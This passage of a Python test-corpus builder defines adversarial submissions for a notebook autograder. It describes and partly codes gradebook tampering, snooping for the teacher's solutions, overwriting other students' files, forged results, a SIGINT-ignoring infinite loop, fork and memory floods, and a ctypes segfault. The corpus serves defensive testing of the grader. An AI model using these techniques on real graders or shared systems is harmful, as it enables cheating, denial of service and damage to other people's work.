         "its answers", "graded", 0, ps2.notebook(output_size=IMPORT_REFERENCE, **_FORWARDS),
         evidence="IMPORT-REFERENCE: ModuleNotFoundError")
    case("t-read-source", "tampering", "looks for the teacher's source notebook (course paths, ../, a "
         "search of /) to run its model solutions", "graded", 0,
         ps2.stubs(**{f: ps2.release_stub(f) + "\n" + _snooper(course) for f in FUNCTIONS}),
         evidence="SNOOP-FOUND: none")
    writer = "gradebook-writer.%s" % token
    case("t-write-gradebook", "tampering", "finds gradebook.db (the course's path, ../) and leaves a process "
         "that zeroes the class and gives itself full marks", "graded", 0,
         ps2.stubs(output_size=_gradebook_writer(course, "t-write-gradebook", writer) + "\n"
                   + ps2.release_stub("output_size")),
         evidence="GRADEBOOK-FOUND: none", markers=(writer,))
    case("t-harm-others", "tampering", "overwrites other students' notebooks and the working files of "
         "those graded beside it, deletes source/ and release/", "graded", full,
         ps2.notebook(relu=_vandal(course, [workdir_name(c.student) for c in cases if c.honest and sandboxed])
                      + "\n" + ps2.model("relu")), evidence="HARMED: nothing")
    case("t-see-processes", "tampering", "lists every process it can see, looking for the grader's",
         "graded", full, ps2.notebook(relu=PROCESS_VIEW + "\n" + ps2.model("relu")),
         evidence="GRADER-VISIBLE: False")
    case("t-print-pass", "tampering", "prints text that looks like passing tests and a full score", "graded", 0,
         ps2.stubs(output_size=FAKE_PASS + "\n" + ps2.release_stub("output_size")))
    locked = ps2.stubs(**_all_returning("np.zeros((1, 1))"))
    _replace_locked(locked, LOCKED_PATCH)
    case("t-edit-locked", "tampering", "edits the locked imports cell so every public assert passes, returns "
         "zeros", "graded", 0, locked)
    sabotaged = ps2.notebook()
    _replace_locked(sabotaged, LOCKED_SABOTAGE)
    case("t-locked-restored", "tampering", "edits the locked imports cell to switch the hidden checks off "
         "(model answers: the teacher's cell must come back)", "graded", full, sabotaged)
    emptied = ps2.notebook()
    for cell in _cells(emptied, _is_test):
        cell.source = "print('tests removed')\n"
    case("t-edit-tests", "tampering", "empties every test cell, hidden tests included (model answers: "
         "they must come back)", "graded", full, emptied)
    markdown = ps2.stubs(**_all_returning("np.zeros((1, 1))"))
    _tests_to_markdown(markdown)
    case("t-tests-to-markdown", "tampering", "turns every test cell into markdown, returns zeros", "graded", 0,
         markdown)
    markdown_model = ps2.notebook()
    _tests_to_markdown(markdown_model)
    case("t-markdown-restored", "tampering", "turns every test cell into markdown (model answers: the "
         "teacher's cells must come back)", "graded", full, markdown_model)
    case("t-duplicate-ids", "tampering", "duplicates answer and test cells (same cell ids and grade ids), "
         "the copies cheating", "graded", full, files={"ps2.ipynb": _raw(_duplicated(ps2))})
    case("t-strip-metadata", "tampering", "strips every cell's nbgrader metadata (model answers, cell ids "
         "kept)", "graded", full, _stripped(ps2.notebook()))
    case("t-library-alias", "tampering", "calls np.convolve through a name computed and bound before the "
         "check runs (conv1d)", "graded", ps2.without("conv1d"), ps2.notebook(conv1d=LIBRARY_ALIAS))
    case("t-forge-results", "tampering", "rewrites the results file with passing records, then makes it a "
         "link to /dev/zero", "graded", 0, ps2.stubs(conv_layer=_forger() + "\n" + ps2.release_stub("conv_layer")),
         evidence="FORGED")

    # the results channel: nothing written outside a check's own run counts (issue 9, class 2)
    models = {f: ps2.model(f) for f in FUNCTIONS}
    zeros = _all_returning("np.zeros((1, 1))")
    case("t-channel-rewrite", "tampering", "its functions return zeros; the last answer cell computes every "
         "case with hidden model code and rewrites the results in place, as many records as the checks wrote",
         "graded", 0, ps2.notebook(**dict(zeros, conv_layer=_channel_forger(models, "rewrite") + "\n"
                                          + _stub_returning("conv_layer", "np.zeros((1, 1))"))),
         evidence="CHANNEL-FORGED")
    case("t-channel-plant", "tampering", "its functions return zeros; the first answer cell reads the plan and "
         "plants passing records for every check before any runs", "graded", 0,
         ps2.notebook(**dict(zeros, output_size=_channel_forger(models, "now") + "\n"
                                                + _stub_returning("output_size", "0"))),
         evidence="CHANNEL-FORGED")
    case("t-channel-thread", "tampering", "its functions return zeros; a thread started in the first answer "
         "cell writes passing records again and again while the checks run", "graded", 0,
         ps2.notebook(**dict(zeros, output_size=_channel_forger(models, "thread") + "\n"
                                                + _stub_returning("output_size", "0"))),
         evidence="CHANNEL-FORGED")
    case("t-channel-after-honest", "tampering", "correct conv1d; the later relu cell rewrites the results to "
         "claim everything else passed (honest conv1d and relu keep their marks)", "graded",
         ps2.points["test_conv1d"] + ps2.points["test_relu"],
         ps2.notebook(**dict(zeros, conv1d=ps2.model("conv1d"), relu=_channel_forger(models, "rewrite") + "\n"
                                 + ps2.model("relu"))), evidence="CHANNEL-FORGED")
    # banned libraries are absent, and a thread started earlier cannot do the work (class 3)
    case("t-thread-library", "tampering", "conv1d and conv2d hand their inputs to a thread started before the "
         "checks, which computes them with np.convolve out of the watcher's sight", "graded",
         ps2.without("conv1d", "conv2d"),
         ps2.notebook(conv1d=_thread_worker("conv1d", "result = np.convolve(np.asarray(args[0], float), "
                                                      "np.asarray(args[1], float)[::-1], mode='valid')"),
                      conv2d=_thread_worker("conv2d", _ROWS_CORRELATE)))
    case("t-banned-import", "tampering", "imports scipy.signal (and ndimage, torch) under computed names and "
         "uses correlate2d for conv2d", "graded", ps2.without("conv2d"), ps2.notebook(conv2d=BANNED_IMPORTS),
         evidence="BANNED-LIBRARIES: absent")
    # the grader's decoder allocates nothing a record asks for (class 4)
    case("t-hostile-records", "tampering", "conv2d writes records with an 800 MB-per-element dtype, a billion-"
         "element shape, a deep nest and a 40 MB line while its check runs", "graded", ps2.without("conv2d"),
         ps2.notebook(conv2d=_hostile_records("conv2d", "(image, kernel, stride=1, padding=0)")),
         evidence="HOSTILE-RECORDS: armed")

    # -- resource abuse: ends in time, harms nobody, leaves nothing behind --------------------------
    case("r-infinite-loop", "resource", "an endless loop that ignores Ctrl-C, in the first answer cell",
         "timeout", 0, ps2.notebook(output_size="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                                "while True:\n    pass\n"),
         detail=r"ran past the %gs limit per cell" % CELL_TIMEOUT)
    case("r-sleep-cell", "resource", "sleeps an hour in the first answer cell", "timeout", 0,
         ps2.notebook(output_size="import time\ntime.sleep(3600)\n"), detail=r"limit per cell")
    sleepy = "import time\ntime.sleep(%g)\n" % (CELL_TIMEOUT - 1)
    case("r-sleep-notebook", "resource", "sleeps just under the cell limit in every answer cell, past the "
         "notebook's", "timeout", 0, ps2.stubs(**{f: sleepy + ps2.release_stub(f) for f in FUNCTIONS}),
         detail=r"notebook ran past its %gs limit" % NOTEBOOK_TIMEOUT)
    case("r-memory-bomb", "resource", "grows a list of 128 MiB arrays (up to 6 GiB) before defining relu",
         "graded", ps2.without("relu"), ps2.notebook(relu=MEMORY_BOMB + "\n" + ps2.model("relu")))
    case("r-fork-flood", "resource", "forks up to 500 sleeping children", "graded", full,
         ps2.notebook(relu=_fork_flood(token) + "\n" + ps2.model("relu")), evidence="FORK-REFUSED",
         markers=("%d.%s" % (MARKER_SECONDS["fork"], token),))
    case("r-background", "resource", "leaves a new-session child, a double-forked daemon and a thread running",
         "graded", full, ps2.notebook(relu=_background(token) + "\n" + ps2.model("relu")),
         evidence="BACKGROUND: started",
         markers=("%d.%s" % (MARKER_SECONDS["background"], token), "%d.%s" % (MARKER_SECONDS["daemon"], token)))
    case("r-output-flood", "resource", "prints 100 MB (50 MB in 1 MB writes, 50 MB in one message)", "graded",
         full, ps2.notebook(relu=OUTPUT_FLOOD + "\n" + ps2.model("relu")))
    case("r-os-exit", "resource", "os._exit(3) in the relu cell", "crashed", ps2.before("relu"),
         ps2.notebook(relu="import os\nos._exit(3)\n"), detail=r"kernel stopped")
    case("r-exit", "resource", "exit() in the relu cell, as a student ends a script", "crashed",
         ps2.before("relu"), ps2.notebook(relu="exit()\nimport time\ntime.sleep(1)  # the rest of the cell\n"
                                              + ps2.model("relu")), detail=r"kernel stopped")
    case("r-system-exit", "resource", "raise SystemExit at the top of a cell, and from relu itself", "graded",
         ps2.without("relu"), ps2.notebook(
             output_size=ps2.model("output_size") + "\nraise SystemExit('bye')\n",
             relu="def relu(x):\n    raise SystemExit(1)\n"))
    case("r-segfault", "resource", "a segmentation fault through ctypes in the relu cell", "crashed",
         ps2.before("relu"), ps2.notebook(relu="import ctypes\nctypes.string_at(0)\n"), detail=r"kernel stopped")

    # -- broken files: a row that says why ------------------------------------------------------------
    model_bytes = _write(ps2.notebook())
    case("b-invalid-json", "broken", "a notebook cut off in the middle (invalid JSON)", "corrupt", 0,
         files={"ps2.ipynb": model_bytes[: len(model_bytes) // 2]}, detail=r"not valid JSON")
    case("b-empty", "broken", "an empty file", "corrupt", 0, files={"ps2.ipynb": b""}, detail=r"not valid JSON")
    case("b-nbformat3", "broken", "an nbformat 3 notebook (correct answers): upgraded, as stock nbgrader does",
         "graded", full, files={"ps2.ipynb": nbformat.writes(nbformat.convert(ps2.notebook(), 3)).encode("utf-8")})
    latin1 = model_bytes.replace(b"import numpy as np", "import numpy as np  # r\u00e9sum\u00e9".encode("latin-1"), 1)
    assert latin1 != model_bytes, "corpus: no 'import numpy as np' in the notebook to add Latin-1 text to"
    case("b-non-utf8", "broken", "Latin-1 bytes in a UTF-8 notebook", "corrupt", 0, files={"ps2.ipynb": latin1},
         detail=r"not UTF-8")
    case("b-50mb", "broken", "a 50 MB notebook (old outputs: a big image), correct answers", "graded", full,
         files={"ps2.ipynb": lambda: _write(_bulky(ps2.notebook(), 50))})
    case("b-renamed", "broken", "the notebook renamed to 'ps2 (1).ipynb'", "missing", 0,
         files={"ps2 (1).ipynb": model_bytes}, detail=r"ps2\.ipynb missing")
    other = nbformat.read(Path(root) / "release" / "ps1" / "ps1.ipynb", as_version=4)
    case("b-other-assignment", "broken", "ps1's notebook handed in as ps2.ipynb", "corrupt", 0,
         files={"ps2.ipynb": _write(other)}, detail=r"does not look like this assignment's notebook")
    case("b-extra-files", "broken", "correct, beside numpy.py, convgrade_kernel.py, a forged results.jsonl "
         "and plan.json, 5 MB of data", "graded", full, files=_with_extras(model_bytes))
    case("b-missing", "broken", "a folder without the notebook", "missing", 0,
         files={"README.txt": b"my notebook is on my other laptop\n"}, detail=r"ps2\.ipynb missing")
    _check_unique(cases)
    return cases


def _replace_locked(nb, source):
    """Put ``source`` in the first locked code cell (ps2's imports)."""
    for cell in nb.cells:
        if cell.cell_type == "code" and _nbgrader(cell).get("locked") and not _is_test(cell):
            cell.source = source
            return
    raise ValueError("corpus: the notebook has no locked code cell to edit")


def _tests_to_markdown(nb):
    for index, cell in enumerate(nb.cells):
        if _is_test(cell):
            nb.cells[index] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata, id=cell.get("id"))


def _duplicated(ps2):
    """Model answers; each answer and test cell followed by a copy (same cell id and grade
    id) whose answer cheats and whose test is empty: the first copy must win."""
    nb = ps2.notebook()
    cells = []
    for cell in nb.cells:
        cells.append(cell)
        gid = _nbgrader(cell).get("grade_id")
        if gid in FUNCTIONS:
            twin = copy.deepcopy(cell)
            twin.source = ANYTHING + "\n" + _stub_returning(gid, "Anything()")
            cells.append(twin)
        elif _is_test(cell):
            twin = copy.deepcopy(cell)
            twin.source = "pass\n"
            cells.append(twin)
    nb.cells = cells
    return nb


def _stripped(nb):
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    return nb


def _bulky(nb, megabytes):
    """``nb`` with about ``megabytes`` MB of old outputs (a base64 image) in a code cell."""
    raw = os.urandom(int(megabytes * 1024 * 1024 * 3 / 4))
    image = base64.b64encode(raw).decode("ascii")
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("display_data", data={"image/png": image})]
            break
    return nb


def _with_extras(model_bytes):
    """The model notebook beside files a grader must not run or trust."""
    forged = json.dumps({"check": "ps2.conv2d", "case": 0, "ok": True, "value": 0}) + "\n"
    return {
        "ps2.ipynb": model_bytes,
        "numpy.py": b"raise SystemExit('a shadowing numpy beside the notebook')\n",
        "convgrade_kernel.py": b"def check(*args, **kwargs):\n    print('All hidden tests passed!')\n",
        "results.jsonl": forged.encode("utf-8") * 100,
        "plan.json": b'{"checks": {}}',
        "data.bin": lambda: os.urandom(5 * 1024 * 1024),
        "notes/answers.txt": b"the answers are in the notebook\n",
    }


def workdir_name(student):
    """How grading names a student's working folder (``/tmp/convgrade-<name>-...``)."""
    from autograder.pipeline.execute import safe_name

    return safe_name(student)


def _check_unique(cases):
    seen = set()
    for c in cases:
        if c.student in seen:
            raise ValueError("corpus: two cases named %s" % c.student)
        if c.group not in GROUPS:
            raise ValueError("corpus: case %s has group %r, not one of %s" % (c.student, c.group, GROUPS))
        seen.add(c.student)


__all__ = ["CorpusCase", "Ps2", "build_corpus", "corpus_cases", "workdir_name", "CELL_TIMEOUT", "NOTEBOOK_TIMEOUT",
           "ASSIGNMENT"]
